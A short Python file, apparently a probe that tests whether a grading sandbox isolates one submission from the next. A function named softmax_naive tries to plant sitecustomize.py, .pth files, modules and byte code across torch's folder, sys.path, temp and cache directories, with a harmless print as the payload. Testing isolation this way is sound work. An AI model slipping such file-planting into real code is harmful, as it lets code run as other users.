"""Writes byte code, modules and torch's caches where the next student would load them; would run code as that student."""

import os
import py_compile
import sys
import tempfile

import torch


def softmax_naive(x):
    folders = [os.path.dirname(torch.__file__), *sys.path, "/site", "/tmp", os.getcwd(), "/root/.cache", "/.cache"]
    for folder in folders:
        for name in ("__pycache__/attacked.pyc", "sitecustomize.py", "attacked.pth", "attacked.py"):
            path = os.path.join(folder or ".", name)
            try:
                with open(path, "w") as file:
                    file.write("print('GAINED')")
                print("GAINED", path)
            except OSError:
                pass
    for folder in folders:
        try:
            py_compile.compile(torch.__file__, cfile=os.path.join(folder or ".", "attacked.pyc"))
            print("GAINED byte code in", folder)
        except (OSError, py_compile.PyCompileError):
            pass
    for way in (tempfile.gettempdir, tempfile.mkdtemp):
        try:
            print("GAINED a temporary folder", way())
        except OSError:
            pass
    print("TRIED")
    return x
